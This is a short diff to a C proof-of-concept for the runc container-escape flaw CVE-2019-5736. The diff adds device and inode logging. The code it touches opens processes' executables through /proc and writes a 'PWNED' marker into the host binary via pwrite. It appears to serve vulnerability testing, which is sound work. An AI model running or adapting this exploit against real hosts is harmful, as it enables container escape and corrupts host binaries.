@@ -18,6 +18,7 @@
 
 static int held[MAX_HELD];
 static int held_pid[MAX_HELD];
+static struct stat held_st[MAX_HELD];
 static int nheld;
 
 static double now(void) {
@@ -66,6 +67,7 @@ int main(int argc, char** argv) {
              (unsigned long)st.st_dev, (unsigned long)st.st_ino);
       seen[pid] = 1;
       held[nheld] = fd;
+      held_st[nheld] = st;
       held_pid[nheld++] = pid;
     }
     closedir(d);
@@ -84,7 +86,8 @@ int main(int argc, char** argv) {
       }
       const char marker[] = "PWNED-CVE-2019-5736";
       if (pwrite(w, marker, sizeof marker - 1, 0) == (ssize_t)(sizeof marker - 1)) {
-        printf("WROTE host binary through exe of pid %d\n", held_pid[i]);
+        printf("WROTE through exe of pid %d (dev %lu ino %lu)\n", held_pid[i],
+               (unsigned long)held_st[i].st_dev, (unsigned long)held_st[i].st_ino);
         ++writes;
       }
       close(w);
